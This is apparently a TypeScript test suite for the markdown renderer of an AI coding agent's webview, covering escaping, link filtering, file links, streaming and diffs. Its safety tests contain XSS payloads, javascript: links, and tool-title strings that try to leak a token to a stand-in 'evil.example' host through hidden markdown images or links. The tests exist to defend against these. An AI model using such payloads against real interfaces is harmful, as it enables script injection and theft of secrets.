import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { chunks, longAnswer } from "../../bench/longAnswer";
import { parseFileRef, type PathLookup, renderMarkdown, renderTitle, type StableBlock, StreamingMarkdown } from "../../webview/markdown";
import { diffHunks, headTail } from "../../webview/diff";

const html = (blocks: StableBlock[]): string => blocks.map((b) => b.html).join("");
const exists: PathLookup = (p) => (p.startsWith("src/") ? "exists" : p.startsWith("gone/") ? "missing" : undefined);

describe("markdown: safe", () => {
  it("escapes every tag and attribute in the source", () => {
    const html = renderMarkdown('<script>alert(1)</script> <img src=x onerror="alert(1)"> **b**\n\n<div style="x">y</div>');
    assert.ok(!/<script|<img|<div style/.test(html), html);
    assert.ok(html.includes("&lt;script&gt;"));
    assert.ok(html.includes("<strong>b</strong>"));
  });

  it("keeps only http(s)/mailto links; a javascript: or data: link is its label alone", () => {
    assert.equal(renderMarkdown("[x](javascript:alert(1))"), "<p>x</p>\n");
    assert.equal(renderMarkdown("[x](data:text/html,hi)"), "<p>x</p>\n");
    assert.equal(renderMarkdown('[x](https://a.b/"q)'), '<p><a href="https://a.b/%22q" title="https://a.b/%22q">x</a></p>\n');
    assert.match(renderMarkdown("mail [me](mailto:a@b.c)"), /<a href="mailto:a@b.c"/);
  });

  it("images become links (no remote content under the CSP)", () => {
    const html = renderMarkdown("![logo](https://x.y/l.png) ![local](l.png)");
    assert.ok(!html.includes("<img"));
    assert.match(html, /<a href="https:\/\/x.y\/l.png"[^>]*>🖼 logo<\/a>/);
  });

  it("adds no style attribute anywhere (the CSP refuses them): table alignment is a class", () => {
    const html = renderMarkdown("| a | b | c |\n|:--|--:|:-:|\n| 1 | 2 | 3 |");
    assert.ok(!html.includes("style="), html);
    assert.match(html, /<th class="align-right">b<\/th>/);
    assert.match(html, /<td class="align-center">3<\/td>/);
    assert.match(html, /^<div class="table-wrap"><table>/);
  });
});

describe("markdown: blocks", () => {
  it("code blocks: highlighted by language, with Wrap and Copy buttons in the block's wrapper", () => {
    const html = renderMarkdown("```ts\nconst x = '<a>';\n```");
    assert.match(html, /^<div class="code-block"><div class="code-head"><span class="code-lang">ts<\/span><span class="code-actions"><button class="wrap-code" type="button" aria-pressed="true"[^>]*>Wrap<\/button><button class="copy-code" type="button"/);
    assert.match(html, /<pre><code class="hljs language-ts"><span class="hljs-keyword">const<\/span>/);
    assert.ok(html.includes("&#x27;&lt;a&gt;&#x27;") || html.includes("&lt;a&gt;"), html);
    // An unknown language or none: escaped, not highlighted.
    assert.match(renderMarkdown("```nosuchlang\n<b>\n```"), /<code class="hljs">&lt;b&gt;\n<\/code>/);
  });

  it("an unterminated fence (still streaming) renders as code", () => {
    assert.match(renderMarkdown("text\n\n```py\nx = 1\n"), /<code class="hljs language-py">x = <span class="hljs-number">1<\/span>\n<\/code>/);
  });

  it("nested lists keep their numbering; an ordered list keeps its start", () => {
    const html = renderMarkdown("1. a\n   1. b\n   2. c\n2. d\n\ntext\n\n3. e");
    assert.match(html, /<ol>\n<li>a\n<ol>\n<li>b<\/li>\n<li>c<\/li>\n<\/ol>\n<\/li>\n<li>d<\/li>\n<\/ol>/);
    assert.match(html, /<ol start="3">\n<li>e<\/li>/);
  });

  it("task lists: disabled checkboxes, the list without bullets", () => {
    const html = renderMarkdown("- [x] done\n- [ ] todo\n- plain");
    assert.match(html, /<ul class="task-list">/);
    assert.match(html, /<li class="task-item"><input type="checkbox" class="task" disabled checked> done<\/li>/);
    assert.match(html, /<li class="task-item"><input type="checkbox" class="task" disabled> todo<\/li>/);
    assert.match(html, /<li>plain<\/li>/);
  });

  it("headings, quotes, strikethrough, line breaks", () => {
    assert.equal(renderMarkdown("# T\n> q\n\na\nb ~~c~~"), "<h1>T</h1>\n<blockquote>\n<p>q</p>\n</blockquote>\n<p>a<br>\nb <s>c</s></p>\n");
  });
});

describe("markdown: file links", () => {
  it("recognises paths in code spans, text and links; not words, versions or member access", () => {
    assert.deepEqual(parseFileRef("src/a.ts:12"), { path: "src/a.ts", line: 12 });
    assert.deepEqual(parseFileRef("a.py"), { path: "a.py" });
    assert.deepEqual(parseFileRef("./lib/x"), { path: "./lib/x" });
    assert.deepEqual(parseFileRef("src/a.ts#L7-L9"), { path: "src/a.ts", line: 7 });
    for (const no of ["foo", "1.2.3", "os.path", "a b.ts", "x()", "dir/"]) assert.equal(parseFileRef(no), undefined, no);
  });

  it("a path the host knows is an a.file-link with data-path/data-line; unknown ones are candidates; missing ones text", () => {
    const html = renderMarkdown("see src/a.ts:12, `src/b.py`, `gone/c.ts` and `new/d.ts`", exists);
    assert.match(html, /<a class="file-link" href="#" data-path="src\/a.ts" data-line="12" [^>]*>src\/a.ts:12<\/a>/);
    assert.match(html, /<a class="file-link" href="#" data-path="src\/b.py" [^>]*><code>src\/b.py<\/code><\/a>/);
    assert.match(html, /<span><code>gone\/c.ts<\/code><\/span>/);
    assert.match(html, /<span class="file-cand" data-path="new\/d.ts"><code>new\/d.ts<\/code><\/span>/);
  });

  it("a markdown link to a path is a file link; a URL is not taken for a path", () => {
    const html = renderMarkdown("[the parser](src/p.ts#L3) and https://x.org/src/y.ts", exists);
    assert.match(html, /<a class="file-link" href="#" data-path="src\/p.ts" data-line="3" [^>]*>the parser<\/a>/);
    assert.match(html, /<a href="https:\/\/x.org\/src\/y.ts"/);
    assert.ok(!html.includes('data-path="src/y.ts"'));
  });
});

/** The text a person reads in some HTML: tags dropped, entities decoded. */
function shownText(html: string): string {
  return html
    .replace(/<[^>]+>/g, "")
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&#39;/g, "'")
    .replace(/&amp;/g, "&");
}

describe("markdown: tool titles are shown as sent", () => {
  it("every character of a title is on screen: no image, link, code span, emphasis, escape or entity hides one (attack round 23)", () => {
    for (const [title, kind] of [
      ["Fetch http://127.0.0.1:8/docs/guide.html![ ](?token=ghp_SECRET)", "fetch"],
      ["Fetch https://example.com/[docs](http://evil.example/?q=SECRET)", "fetch"],
      ["Fetch https://ex.com/``a``?tok=SECRET", "fetch"],
      ["Read `  secret  `.txt", "read"],
      ["Glob **/*.py in src/_private_/", "search"],
      ["Read a\\*b&amp;c&#x41;.txt", "read"],
      ['Grep "<img src=x onerror=alert(1)>" in ~/x', "search"],
      ["Write notes <!-- hidden --> .md", "edit"],
      ["Stop `` `task` ``", "other"],
    ] as const) {
      const html = renderTitle(title, kind);
      assert.equal(shownText(html), title, title);
      assert.doesNotMatch(html, /<(img|a |strong|em|script|code)/, title);
    }
  });

  it("a command's code span is code, and paths link to files (but not inside a web address)", () => {
    assert.equal(renderTitle("`rm -rf build` (background)", "execute"), "<code>rm -rf build</code> (background)");
    assert.equal(renderTitle("`` echo `date` `` — it asks about `rm x`", "execute"), "<code>echo `date`</code> — it asks about <code>rm x</code>");
    assert.match(renderTitle("`cat src/a.ts`", "execute", exists), /<code>cat src\/a.ts<\/code>/);
    assert.match(renderTitle("Read src/a.ts", "read", exists), /^Read <a class="file-link"[^>]*>src\/a.ts<\/a>$/);
    assert.match(renderTitle("Edit /w/src/b.py:12", "edit", exists), /^Edit <span class="file-cand" data-path="\/w\/src\/b.py" data-line="12">\/w\/src\/b.py:12<\/span>$/);
    assert.equal(renderTitle("Fetch https://x.org/?f=src/a.ts", "fetch", exists), "Fetch https://x.org/?f=src/a.ts");
  });
});

describe("markdown: streaming", () => {
  it("the blocks of a streamed text, put together, are the text rendered whole, however it is cut", () => {
    const text = longAnswer(300);
    for (const size of [1, 7, 80, 333]) {
      const stream = new StreamingMarkdown(exists);
      let stable = "";
      let tail = "";
      let acc = "";
      for (const chunk of chunks(text, size)) {
        acc += chunk;
        const u = stream.update(acc);
        assert.equal(u.reset, false);
        stable += html(u.stable);
        tail = u.tail;
      }
      assert.equal(stable + tail, renderMarkdown(text, exists), `chunks of ${size}`);
    }
  });

  it("renders only the last block: the final prefix is not parsed again", () => {
    const stream = new StreamingMarkdown();
    let acc = "";
    const tails: number[] = [];
    for (let i = 0; i < 200; i++) {
      acc += `Paragraph ${i} with some words.\n\n`;
      const u = stream.update(acc);
      tails.push(u.tail.length);
    }
    assert.ok(Math.max(...tails) < 100, `a tail stays one block long (max ${Math.max(...tails)} chars)`);
  });

  it("a text that is not a continuation of the last one starts over", () => {
    const stream = new StreamingMarkdown();
    stream.update("# A\n\nb\n\nc");
    const u = stream.update("# X\n\ny");
    assert.equal(u.reset, true);
    assert.equal(html(u.stable) + u.tail, renderMarkdown("# X\n\ny"));
  });

  it("a list continued after a blank line, a setext heading, a fence closed later: the same as whole", () => {
    for (const text of ["- a\n\n- b\n\npara", "Title\n===\n\nx", "```\ncode\n\nmore\n```\nafter", "> q\nlazy\n\n> q2", "para\n- item\n\n  cont"]) {
      const stream = new StreamingMarkdown();
      let stable = "";
      let last = "";
      for (let i = 1; i <= text.length; i++) {
        const u = stream.update(text.slice(0, i));
        stable += html(u.stable);
        last = u.fence ? renderMarkdown(text.slice(u.fence.start, i)) : u.tail;
      }
      assert.equal(stable + last, renderMarkdown(text), JSON.stringify(text));
    }
  });
});

describe("markdown: a streamed code block", () => {
  it("an open fence comes as its text, from the same start, until it closes; then it is a final block", () => {
    const stream = new StreamingMarkdown();
    const a = stream.update("Intro.\n\n```py\nx = 1\n");
    assert.deepEqual(a.fence, { start: 8, lang: "py", code: "x = 1\n" });
    assert.equal(a.tail, "");
    assert.equal(html(a.stable), "<p>Intro.</p>\n");
    const b = stream.update("Intro.\n\n```py\nx = 1\ny = 2\n``");
    assert.deepEqual(b.fence, { start: 8, lang: "py", code: "x = 1\ny = 2\n``" });
    const c = stream.update("Intro.\n\n```py\nx = 1\ny = 2\n```\n");
    assert.equal(c.fence, undefined, "a fence closed at the very end is closed");
    const d = stream.update("Intro.\n\n```py\nx = 1\ny = 2\n```\n\nAfter.");
    assert.equal(d.stable.length, 1);
    assert.deepEqual(d.stable[0]?.fence, { lang: "py", code: "x = 1\ny = 2\n" });
    assert.equal(d.stable[0].start, 8);
    assert.equal(d.tail, "<p>After.</p>\n");
  });

  it("while it stays open its text is followed without parsing, the same as parsing it says, at every cut", () => {
    const text = "Intro.\n\n```ts\nconst a = 1;\n`` not yet\n  ```still code```\nlet b = 2;\n```\n\nAfter ~~~\n\n~~~\nx\n~~~~\n";
    const stream = new StreamingMarkdown();
    for (let i = 1; i <= text.length; i++) {
      const streamed = stream.update(text.slice(0, i));
      const fresh = new StreamingMarkdown().update(text.slice(0, i));
      assert.deepEqual(streamed.fence, fresh.fence, `at ${i}: ${JSON.stringify(text.slice(0, i))}`);
    }
  });

  it("a closed fence followed by blank lines is not taken for an open one", () => {
    assert.equal(new StreamingMarkdown().update("```\ncode\n```\n\n").fence, undefined);
    assert.notEqual(new StreamingMarkdown().update("~~~~\ncode\n~~~\n").fence, undefined, "a shorter marker does not close it");
  });
});

describe("card diffs", () => {
  it("hunks with 3 lines of context and their line numbers", () => {
    const old = Array.from({ length: 20 }, (_, i) => `l${i + 1}`).join("\n");
    const neu = old.replace("l5", "L5").replace("l16", "L16");
    const hunks = diffHunks(old, neu);
    assert.equal(hunks.length, 2);
    assert.equal(hunks[0]?.newStart, 2);
    assert.deepEqual(
      hunks[0].lines.map((l) => `${l.op}:${l.text}`),
      ["same:l2", "same:l3", "same:l4", "del:l5", "add:L5", "same:l6", "same:l7", "same:l8"],
    );
    assert.deepEqual(diffHunks("", "new").flatMap((h) => h.lines), [{ op: "add", text: "new" }]);
  });

  it("the head/tail fallback keeps the common ends as context", () => {
    assert.deepEqual(headTail("a\nb\nc", "a\nB\nc").lines, [
      { op: "same", text: "a" },
      { op: "del", text: "b" },
      { op: "add", text: "B" },
      { op: "same", text: "c" },
    ]);
  });
});
